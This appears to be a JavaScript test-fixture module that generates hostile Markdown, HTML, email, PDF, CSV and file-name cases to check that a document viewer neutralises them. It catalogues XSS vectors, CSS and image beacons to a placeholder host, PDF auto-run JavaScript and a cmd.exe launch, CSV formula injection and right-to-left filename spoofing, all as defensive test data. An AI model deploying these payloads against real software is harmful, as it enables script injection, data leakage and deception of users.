// Notes of somebody who wishes the reader ill: markup, scripts, links and names that would do something if they were not
// shown as text. Each would set `window.hostile`.

export const hostileFiles = [
  {
    name: 'hostile.md',
    text: `# <img src=x onerror="window.hostile=1">

The zanzibar clause <script>window.hostile=1</script> ends here.

[zanzibar link](javascript:window.hostile=1) and ![picture](http://192.0.2.1/zanzibar.png)

<a href="javascript:window.hostile=1">zanzibar</a> <iframe src="javascript:window.hostile=1"></iframe> {@html "<b>zanzibar</b>"}

<style>body{display:none}</style> <svg onload="window.hostile=1"></svg> zanzibar https://192.0.2.1/?leak
`,
  },
  { name: 'zanzibar\u202Efdp.md', text: '# zanzibar \u202Efdp.exe\n\nA zanzibar note \u202Ewhose text turns around.\n' },
  { name: '<img src=x onerror=window.hostile=1>.md', text: 'zanzibar without a title, under a bad name.\n' },
]

// The corpus: each case has a name, what it is, and its text. `RUN` stands for a script that would give the case away,
// `OUT` for an address outside that would be asked for; both carry the case's number, so that a failure names its case.

const markdown = {
  'a script element': 'before <script>RUN</script> after',
  'an image that fails': '<img src=x onerror="RUN">',
  'a link to a script': '[press](javascript:RUN)',
  'a link to a script, with entities': '[press](&#106;&#97;vascript&colon;RUN) [press](java&#x09;script:RUN)',
  'a link to a script, with spaces and capitals': '[press]( \u0001JaVaScRiPt:RUN ) <a href=" javascript:RUN">press</a>',
  'a link to a page of data': '[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [press](data:text/html,<script>RUN</script>)',
  'a link to VBScript and to a file': '[press](vbscript:RUN) [press](file:///etc/passwd)',
  'a picture from elsewhere': '![pixel](OUT/pixel.png) ![pixel](//192.0.2.1/pixel.png)',
  'a picture of data with a script': '![x](data:image/svg+xml,%3Csvg%20onload=RUN%3E)',
  'an address in angles and a bare one': '<OUT/angle> OUT/bare www.192.0.2.1/bare',
  'a link by reference': '[press][x]\n\n[x]: javascript:RUN "title"',
  'a title that breaks out of its attribute': '[press](#x "\\" onmouseover=RUN autofocus tabindex=1 onfocus=RUN x=\\"")',
  'a frame with a document of its own': '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  'a drawing that loads': '<svg onload="RUN"><animate onbegin="RUN" attributeName=x dur=1s></svg>',
  'a drawing with a link': '<svg><a xlink:href="javascript:RUN"><text y=20>press</text></a><use href="OUT/x.svg#a"></use></svg>',
  'a style that fetches and hides': '<style>@import url(OUT/x.css); body{display:none}</style>',
  'details that open by themselves': '<details open ontoggle=RUN><summary>more</summary>x</details>',
  'mathematics with a link': '<math><maction actiontype="statusline" xlink:href="javascript:RUN">press<mtext></maction></math>',
  'front matter with markup': '---\ntitle: "<img src=x onerror=RUN>"\ntags: ["<svg onload=RUN>"]\naliases: ["<script>RUN</script>"]\n---\n\ntext',
  'expressions of page frameworks': "{@html '<img src=x onerror=RUN>'} {{constructor.constructor('RUN')()}} ${RUN} <%= RUN %>",
  'a comment that is left': '<!--><img src=x onerror=RUN>--> <!-- --!><img src=x onerror=RUN> -->',
  'a fence whose language is markup': '```<img src=x onerror=RUN>\ncode </code></pre><script>RUN</script>\n```',
  'a link by name with markup': '[[<img src=x onerror=RUN>|<svg onload=RUN>]] ![[OUT/x.png]] [[javascript:RUN]]',
  'addresses of every kind of link': '[a](OUT/a) [b](//192.0.2.1/b) <OUT/c> ![d](OUT/d.png "OUT/t") [![e](OUT/e.png)](OUT/f) [g][OUT] [h](\\\\192.0.2.1\\h) [i](\\/\\/192.0.2.1/i)\n\n[OUT]: OUT/g',
  'a table with markup in its cells': '| <img src=x onerror=RUN> | [press](javascript:RUN) |\n|:-:|--:|\n| <script>RUN</script> | ![x](OUT/x.png) |\n| `</td><svg onload=RUN>` | [[javascript:RUN\\|press]] |',
  'a table as wide as a street': `|${'<b>x</b>|'.repeat(120)}\n|${'-|'.repeat(120)}\n|${'wide word|'.repeat(120)}`,
  'quotations without end': `${'>'.repeat(3000)} deep`,
  'lists without end': `${'- '.repeat(3000)}deep\n\n${Array.from({ length: 200 }, (_, index) => `${' '.repeat(2 * index)}1. deeper`).join('\n')}`,
  'emphasis without end': `${'*a_b'.repeat(4000)} ${'[x]('.repeat(2000)} ${'`'.repeat(999)}`,
  'one word without end, in every element': `# ${'x'.repeat(600)}\n\n> ${'y'.repeat(600)}\n\n- ${'z'.repeat(600)}\n\n\`${'c'.repeat(600)}\`\n\n    ${'d'.repeat(600)}\n\n[${'e'.repeat(300)}](OUT/${'f'.repeat(600)}) **${'g'.repeat(600)}**`,
  'tasks, notes and definitions with markup': '- [x] <input onfocus=RUN autofocus>\n- [ ] [^<svg onload=RUN>]\n\n[^<svg onload=RUN>]: <script>RUN</script>\n\n[<img src=x onerror=RUN>]: javascript:RUN "<b onclick=RUN>"',
  'an address that turns around': '[bank](https://192.0.2.1/\u202Egro.elpmaxe) <https://example.org\u2066@192.0.2.1> [\u202Ekcilc](mailto:a@example.org)',
  'a form that takes the focus': '<form action="OUT/form"><input autofocus onfocus=RUN><button formaction="javascript:RUN">go</button></form>',
}

const html = {
  'a refresh': '<meta http-equiv="refresh" content="0;url=OUT/refresh"><meta http-equiv="refresh" content="0;url=javascript:RUN"><p>text',
  'a base address': '<base href="OUT/"><p><a href="next">press</a>',
  'sheets and hints': '<link rel=stylesheet href="OUT/a.css"><link rel=prefetch href="OUT/b"><link rel=dns-prefetch href="OUT"><link rel=icon href="OUT/i"><p>text',
  'letters sent by a style': '<style>input[value^="a"]{background:url(OUT/a)} #query{background:url(OUT/q)} @font-face{font-family:x;src:url(OUT/f);unicode-range:U+41} *{font-family:x}</style><p>text',
  'events on the body': '<body onload="RUN" onpageshow="RUN" onhashchange="RUN"><p>text',
  'objects and embedded things': '<object data="javascript:RUN"></object><embed src="OUT/x.swf"><applet code=x></applet><p>text',
  'frames': '<iframe src="OUT/frame"></iframe><frameset onload=RUN><frame src="javascript:RUN"></frameset><p>text',
  'sources of pictures and films': '<picture><source srcset="OUT/a 1x, OUT/b 2x"></picture><video poster="OUT/p" src=x onerror=RUN autoplay></video><audio src="OUT/a" autoplay></audio><p>text',
  'a link that calls home': '<a href="#/library" ping="OUT/ping" target="_top" download>press</a><p>text',
  'markup that changes when it is read twice': '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript><svg></p><style><a id="</style><img src=1 onerror=RUN>"><p>text',
  'a cover over the page': '<div style="position:fixed;inset:0;z-index:99999;background:red">press</div><p>text',
  'a title with markup': '<title><img src=x onerror=RUN></title><script>document.title="owned";RUN</script><p>text',
  'a template and a shadow': '<template shadowrootmode=open><img src=x onerror=RUN></template><slot onslotchange=RUN></slot><p>text',
  'a portal of names': '<form id=document name=location><input name=cookie></form><img name=asked src=x onerror=RUN><a id=rushlight></a><p>text',
}

const part = (lines) => lines.join('\r\n')
const mail = {
  'a page with a script': part(['From: a@example.org', 'Subject: hello', 'Content-Type: text/html', '', '<script>RUN</script><p>text <img src="OUT/pixel.gif" width=1 height=1>']),
  'a sender with markup': part(['From: "<img src=x onerror=RUN>" <a@example.org>', 'To: "<script>RUN</script>" <b@example.org>', 'Subject: hello', '', 'text']),
  'a subject with markup': part(['From: a@example.org', 'Subject: <svg onload=RUN> =?utf-8?Q?=3Cimg_src=3Dx_onerror=3DRUN=3E?=', '', 'text']),
  'an attachment with a bad name': part([
    'From: a@example.org', 'Subject: hello', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/plain', '', 'text', '--b',
    'Content-Type: text/html; name="<img src=x onerror=RUN>.html"', 'Content-Disposition: attachment; filename="<img src=x onerror=RUN>.html"', '', '<script>RUN</script>', '--b--', '',
  ]),
  'a picture of its own': part(['From: a@example.org', 'Subject: hello', 'Content-Type: text/html', '', '<img src="cid:x" onerror=RUN><p>text']),
  'a way out of the list': part(['From: a@example.org', 'Subject: hello', 'List-Unsubscribe: <javascript:RUN>, <OUT/leave>', 'List-Id: <svg onload=RUN>', '', 'text']),
  'a sender who turns around': part(['From: =?utf-8?Q?bank=E2=80=AEgro.elpmaxe=40a?= <a@example.org>', 'Reply-To: OUT', 'Subject: =?utf-8?Q?=E2=80=AEfdp.exe?=', '', 'text']),
  'a sheet that covers the page': part(['From: a@example.org', 'Subject: hello', 'Content-Type: text/html', '', '<style>header,main{position:fixed!important;inset:0}</style><div style="position:fixed;inset:0">text</div>']),
  'a form to fill in': part(['From: a@example.org', 'Subject: hello', 'Content-Type: text/html', '', '<form action="OUT/login"><input type=password autofocus onfocus=RUN></form><p>text']),
}

/** What a PDF does beside its text: entries of its catalogue, of its page, and of its information. */
const pdf = {
  'a script when it is opened': ['/OpenAction << /S /JavaScript /JS (RUN; app.alert\\(1\\)) >>'],
  'scripts by name': ['/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (RUN) >>] >> >>'],
  'an address that is a script': ['', '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:RUN) >> >>]'],
  'an address outside': ['/OpenAction << /S /URI /URI (OUT/open) >>', '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (OUT/press) >> >>]'],
  'a program to start': ['/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/C calc) >> >>'],
  'a form that is sent': ['/OpenAction << /S /SubmitForm /F (OUT/form) >>', '/AA << /O << /S /JavaScript /JS (RUN) >> >>'],
  'a title with markup': ['', '', '/Title (<img src=x onerror=RUN>) /Author (<script>RUN</script>)'],
}

const table = {
  'a formula that starts a program': `name,value\n"=cmd|' /C calc'!A0",1\n`,
  'a formula that calls home': 'name,value\n"=HYPERLINK(""OUT/x"",""press"")",1\n"=WEBSERVICE(""OUT/x"")",2\n"=IMAGE(""OUT/x.png"")",3\n',
  'signs that begin a formula': 'name,value\n+1+1,1\n-2+3,2\n@SUM(1),3\n\t=1+1,4\n',
  'markup in cells': 'name,value\n<img src=x onerror=RUN>,"<script>RUN</script>"\n"<a href=""javascript:RUN"">press</a>",2\n',
  'one very long cell': `name,value\n${'x'.repeat(4000)},1\n`,
  'very many columns': `${Array.from({ length: 300 }, (_, index) => `column${index}`).join(',')}\n${Array.from({ length: 300 }, () => '<b>').join(',')}\n`,
}

/** Names of files; where the system allows them there is a file of that name. */
const name = {
  'a script': '<script>RUN</script>',
  'an image that fails': '<img src=x onerror=RUN>',
  'a drawing that loads': '<svg onload=RUN>',
  'an address that is a script': 'javascript:RUN',
  'a page of data': 'data:text/html,<script>RUN<',
  'a style that calls home': '<style>@import url(OUT);',
  'a refresh': '<meta http-equiv=refresh content=0;url=javascript:RUN>',
  'a quote and an event': '" autofocus onfocus=RUN tabindex=1 x="',
  'an apostrophe and an event': "' autofocus onfocus=RUN tabindex=1 x='",
  'expressions of page frameworks': "{{constructor.constructor('RUN')()}}${RUN}{@html 1}",
  'encoded markup': '%3Cscript%3ERUN%3C%2Fscript%3E &lt;script&gt;RUN&lt;',
  'text that turns around': 'invoice\u202Efdp.exe',
  'isolates that are not closed': 'one \u2067two \u2066three \u202Bfour',
  'right to left': 'فاتورة مهمة جدا - חשבונית.pdf',
  'invisible characters': 'pay\u200Bpal\uFEFF\u2060 report\u200E',
  'letters that look like others': 'раураl ассоunt ѕtаtеmеnt',
  'very long without a break': 'x'.repeat(230),
  'very long, Chinese': '很長的檔名'.repeat(15),
  'signs upon signs': `z${'\u0300\u0301\u0489\u034F'.repeat(24)}algo`,
  'lines and controls': 'one\ntwo\rthree\u001B[31mfour\u0007five',
  'faces that are joined': '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(3),
  'an address of the page': '#library?q=x&doc=../../api/v1/sources',
  'a way up': 'x\\..\\..\\..\\etc\\passwd\u2028.lnk',
}

const kindsOfCase = { markdown: ['md', markdown], html: ['html', html], mail: ['eml', mail], pdf: ['pdf', pdf], table: ['csv', table], name: ['md', name] }

/** `{ name, of, word, text, file }`: `word` stands in the document and in no other; `file` is null where no file can have such a name. */
export const cases = Object.entries(kindsOfCase).flatMap(([of, [ending, texts]]) => Object.entries(texts).map(([what, text]) => ({ what, of, ending, text }))).map(
  ({ what, of, ending, text }, index) => {
    const word = `quagga${String.fromCharCode(97 + Math.floor(index / 26), 97 + (index % 26))}`
    const filled = [text].flat().map((one) => one.replaceAll('RUN', `window.hostile=${index + 1}`).replaceAll('OUT', `http://192.0.2.1/${index + 1}`))
    const shown = filled.join(' ').trim()
    return { name: `${of}: ${what}`, of, word, text: shown, file: fileOf(of, ending, word, filled) }
  },
)

export const corpusFiles = cases.flatMap(({ file }) => (file ? [file] : []))

function fileOf(of, ending, word, [text, ...more]) {
  switch (of) {
    case 'name':
      // A name of a file holds no stroke, and 255 bytes at most.
      return text.includes('/') || Buffer.byteLength(text) > 250 ? null : { name: `${text}.${ending}`, text: `the ${word} stands under a bad name\n` }
    case 'markdown':
      return { name: `${word}.${ending}`, text: `${text}\n\nthe ${word} stands here\n` }
    case 'table':
      return { name: `${word}.${ending}`, text: `${text}${word},0\n` }
    case 'pdf':
      return { name: `${word}.${ending}`, text: pdfFile(`the ${word} stands here`, text, ...more) }
    default:
      return { name: `${word}.${ending}`, text: text.includes('--b--') ? text.replace('\r\ntext\r\n', `\r\nthe ${word} stands here\r\n`) : `${text}\r\n<p>the ${word} stands here</p>\r\n` }
  }
}

/** A PDF of one page with one line. */
function pdfFile(line, catalogue = '', page = '', information = '') {
  const drawn = `BT /F1 18 Tf 72 700 Td (${line}) Tj ET`
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< ${information} >>`,
  ]
  let file = '%PDF-1.4\n'
  const at = objects.map((object, index) => {
    const offset = file.length
    file += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.join('')}`
  return `${file}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${file.length}\n%%EOF\n`
}
